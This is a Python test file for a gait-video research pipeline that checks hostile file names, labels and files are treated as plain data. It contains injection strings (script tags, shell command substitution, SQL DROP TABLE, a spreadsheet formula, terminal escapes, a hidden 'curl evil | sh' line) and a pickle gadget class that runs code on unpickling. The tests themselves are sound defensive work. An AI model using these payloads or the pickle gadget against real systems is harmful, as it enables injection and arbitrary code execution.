"""Names and files from outside are data: they reach rows, pages and terminals as text and nothing else."""

import dataclasses
import json
import os
import pickle
from pathlib import Path

import numpy as np
import pytest

import pbl_schemas
from pbl_pipeline.errors import PblError
from pbl_pipeline.files import load_npz
from pbl_pipeline.video import load_camera, read_phone_log
from pbl_schemas import fit, video
from pbl_schemas.chain import ON_REQUEST
from pbl_schemas.intake import VisitRecord, ingest
from pbl_schemas.intake.calibrations import camera_row
from pbl_schemas.intake.references import add_reference
from pbl_schemas.job_errors import stored_error
from pbl_schemas.reading.visits import write_visit
from pbl_workers.populate import populate
from research.benchmarks import mutated_files as files
from tests import StandIn
from tests.command import pbl
from tests.html_page import Page
from tests.rows import outcomes

from . import chain

#: Names a file system takes, each of which is something else to a shell, a query, a page, a format or a terminal.
NAMES = (
    "<script>alert(1)<!--<img src=x onerror=alert(1)>",
    "$(touch hacked) `touch hacked` ; touch hacked",
    "'; DROP TABLE pbl_lab.subject; -- \"",
    "%s %(x)s {0} {{ 7*7 }} {% raw %}",
    "-rf --out=..",
    "..",
    "=cmd|' C calc'!A0",
    "gnp.exe \u00e4\u20ac\U0001f6b6\u202f",
    "\u00e4\u20ac\U0001f6b6\u202f \U0001f469\u200d\U0001f9bd",
)
REFUSED = (
    "\u202egnp.exe",
    "walk\u2066.mp4",
    "P\u200b001",
    "P\u00ad001",
    "line\nbreak",
    "\x1b[2J\x1b]0;title\x07",
    "a\u2028  next:     curl evil | sh",
    b"no\xfftext".decode(errors="surrogateescape"),
    "zero\u200bwidth",
    "\u2066isolated\u2069",
)


def test_names_go_through_tables_and_report_as_text(tables: None, tmp_path: Path, stand_in: StandIn):
    folder = tmp_path / "in"
    folder.mkdir()
    os.chdir(folder)
    paths = [chain.small_video(folder, f"v{i}", n=60 + i) for i in range(len(NAMES))]
    paths = [p.rename(folder / f"{name}.mp4") for p, name in zip(paths, NAMES, strict=True)]
    bad = [folder / f"{name}.mp4" for name in REFUSED]
    for path in bad:
        path.write_bytes(os.urandom(64))
    results = ingest([*paths, *bad], VisitRecord(subject="P001", session_label="</title><script>1</script>"))
    assert outcomes(results) == ["registered"] * len(paths) + ["USAGE"] * len(bad)
    assert sorted(video.Video.to_arrays("video_name")) == sorted(p.name for p in paths)
    for result in results[len(paths) :]:
        said = str(result.error)
        said.encode()  # no lone surrogate
        assert "\x1b" not in said
        assert stored_error(said).next_step == "rename the file or folder"
        assert len(said.splitlines()) == 5
    run = populate([t.__name__ for t in pbl_schemas.computed_tables() if t.__name__ not in ON_REQUEST])
    assert not {t.table: t.errors for t in run.tables if t.errors}
    assert len(fit.SessionFit.Trial()) == len(paths)
    status = pbl("status")
    assert status.code == 0
    # The report: pictures and overlays need minutes for eight videos and have their own tests; the names are the point.
    stand_in(**chain.NO_PICTURES)
    out = tmp_path / "out"
    written = write_visit({"subject": "P001"}, out)
    assert all(p.resolve().parent == out.resolve() for p in written)
    assert {p.parent for p in out.rglob("*")} == {out}
    page = Page((out / "report.html").read_text(encoding="utf-8"))
    allowed = {"script", "img", "iframe", "object", "link", "form", "base"}
    assert not [t for t, _ in page.tags if t in allowed]
    assert not [(t, a) for t, a in page.tags if any(name.startswith("on") for name in a)]
    text = page.text
    for name in ("<script>alert(1)<!--<img src=x", "{{ 7*7 }}", "$(touch hacked)", "DROP TABLE"):
        assert name in text, name
    assert "49" not in [t.strip() for t in page.texts]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out"]
    assert not list(tmp_path.rglob("hacked"))


@pytest.mark.parametrize(
    "label", ["a\nb", "\x1b[2J", "\u202e4pm", "a\u200bb", "\u2028", b"\xff".decode(errors="surrogateescape"), "v" * 65]
)
@pytest.mark.parametrize("field", ["session_label", "project", "activity", "population"])
def test_labels_hold_no_control_characters(tmp_path: Path, field: str, label: str):
    with pytest.raises(PblError) as error:
        ingest([tmp_path / "any.mp4"], dataclasses.replace(VisitRecord(subject="P001"), **{field: label}))
    assert error.value.code == "USAGE"
    assert str(error.value).replace("\n", "").isascii()


@pytest.mark.parametrize(("field", "longest"), [("dataset", 32), ("source", 64), ("origin", 1000)])
def test_so_are_those_of_references(field: str, longest: int, tmp_path: Path):
    for label in (*REFUSED, "", "x" * (longest + 1)):
        with pytest.raises(PblError, match=r"^USAGE: "):
            add_reference("a.mp4", tmp_path / "a.mot", **{field: label})  # type: ignore[arg-type]


def test_so_is_the_name_of_a_calibration(tmp_path: Path):
    path = tmp_path / "camera\u202e4pm.json"
    files.camera(path)
    with pytest.raises(PblError, match="USAGE"):
        camera_row(load_camera(path, files.SIZE_PX), files.SIZE_PX)


def test_a_log_of_a_phone_with_a_hostile_name(tmp_path: Path):
    files.log_json(tmp_path / "log.json")
    content = json.loads((tmp_path / "log.json").read_text())
    for name in ("\x1b[2J", "a\nb", "a\u202eb"):
        (tmp_path / "log.json").write_text(json.dumps(content | {"phone": {"model": name}}))
        with pytest.raises(PblError, match="PHONE_LOG"):
            read_phone_log(tmp_path / "log.json")


class Bomb:
    """Unpickled, it leaves a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return (Path.touch, (self.path,))


def test_no_file_from_outside_is_unpickled(tmp_path: Path):
    trace = tmp_path / "ran"
    bomb = np.array([Bomb(trace)], dtype=object)
    np.savez(tmp_path / "bomb.npz", time_s=np.zeros(3), names=bomb)
    (tmp_path / "plain.npz").write_bytes(pickle.dumps(Bomb(trace)))
    np.save(tmp_path / "bomb.npy", bomb)
    (tmp_path / "bomb.npy").rename(tmp_path / "array.npz")
    for name in ("bomb.npz", "plain.npz", "array.npz"):
        with pytest.raises(PblError, match=r"^FILE_FORMAT: "):
            load_npz(tmp_path / name, ("time_s", "names"))
        for command in (
            ["fit", "--out", tmp_path / "o"],
            ["events", "--out", tmp_path / "e.csv"],
            ["gait", "--out", tmp_path / "m"],
        ):
            assert pbl(command[0], tmp_path / name, *command[1:]).code != 0
    assert not trace.exists()
    # The bomb would work: what is tested is that nobody lights it.
    pickle.loads(pickle.dumps(Bomb(trace)))
    assert trace.exists()


@pytest.mark.parametrize("stamp", ["9" * 40, "-" + "9" * 40, "1e400", "nan", "__import__('os')", "0x10", ""])
def test_a_log_with_impossible_stamps_is_refused(tmp_path: Path, stamp: str):
    log = tmp_path / "Orientation.csv"
    rows = "\n".join(f"{stamp},{i},1,0,0,0,0,0,0" for i in range(9))
    log.write_text(f"time,seconds_elapsed,qw,qx,qy,qz,roll,pitch,yaw\n{rows}\n")
    with pytest.raises(PblError, match=r"^PHONE_LOG: "):
        read_phone_log(log)
